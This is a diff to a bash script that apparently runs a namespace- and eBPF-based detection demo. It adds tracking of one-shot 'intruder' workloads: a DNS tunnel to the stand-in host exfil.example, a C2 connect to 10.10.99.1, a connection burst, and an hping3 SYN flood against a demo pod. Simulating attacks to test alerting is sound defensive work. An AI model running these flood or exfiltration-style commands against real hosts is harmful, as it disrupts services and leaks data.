@@ -62,6 +62,12 @@ spawn() {
   echo "$! $name" >>"$RUN/pids"
 }
 
+# A process that does its job once and exits: `status` counts it apart from the ones that must run.
+spawn_once() {
+  spawn "$@"
+  sed -i '$ s/$/ once/' "$RUN/pids"
+}
+
 need_root() { [ "$(id -u)" = 0 ] || die "must run as root (network namespaces, eBPF)"; }
 
 down() {
@@ -267,12 +273,12 @@ start_workloads() {
   # across the 10 s window); a 2 s SYN burst at payment-service (syn-flood), with hping3.
   local pay_ip
   pay_ip=$(for p in "${PODS[@]}"; do if [ "$(field "$p" 0)" = payment-service-4b2a1 ]; then field "$p" 4; fi; done)
-  spawn intruder-tunnel "$PREFIX-intruder" "$NODE_BIN" "$WORKLOAD" tunnel --name intruder --after 20000 --queries 80 exfil.example
-  spawn intruder-c2 "$PREFIX-intruder" "$NODE_BIN" "$WORKLOAD" connect --name intruder --after 20000 --timeout 1000 10.10.99.1 443
-  spawn intruder-connect "$PREFIX-intruder" "$NODE_BIN" "$WORKLOAD" connect --name intruder --after 22000 --timeout 1000 \
+  spawn_once intruder-tunnel "$PREFIX-intruder" "$NODE_BIN" "$WORKLOAD" tunnel --name intruder --after 20000 --queries 80 exfil.example
+  spawn_once intruder-c2 "$PREFIX-intruder" "$NODE_BIN" "$WORKLOAD" connect --name intruder --after 20000 --timeout 1000 10.10.99.1 443
+  spawn_once intruder-connect "$PREFIX-intruder" "$NODE_BIN" "$WORKLOAD" connect --name intruder --after 22000 --timeout 1000 \
     --count 1200 --parallel 20 "$pay_ip" 8080
   if command -v hping3 >/dev/null; then
-    spawn intruder-synflood "$PREFIX-intruder" bash -c "sleep 26; exec hping3 -q -S -p 8080 -i u200 -c 10000 $pay_ip"
+    spawn_once intruder-synflood "$PREFIX-intruder" bash -c "sleep 26; exec hping3 -q -S -p 8080 -i u200 -c 10000 $pay_ip"
   else
     log "hping3 not found: the demo raises no syn-flood alert (apt-get install hping3)"
   fi
@@ -383,9 +389,16 @@ status() {
   done
   echo "  relay: $RELAY_ADDR${TLS:+ (mutual TLS; certificates in $RUN/tls)}"
   if [ -f "$RUN/pids" ]; then
-    local alive=0 total=0
-    while read -r pid name; do total=$((total + 1)); kill -0 "$pid" 2>/dev/null && alive=$((alive + 1)); done <"$RUN/pids"
+    local alive=0 total=0 once=0 finished=0
+    while read -r pid name kind; do
+      if [ "$kind" = once ]; then
+        once=$((once + 1)); kill -0 "$pid" 2>/dev/null || finished=$((finished + 1))
+      else
+        total=$((total + 1)); kill -0 "$pid" 2>/dev/null && alive=$((alive + 1))
+      fi
+    done <"$RUN/pids"
     echo "  processes: $alive/$total running (logs in $RUN/logs)"
+    [ "$once" = 0 ] || echo "  one-shot attacks: $finished of $once finished"
   fi
 }
 
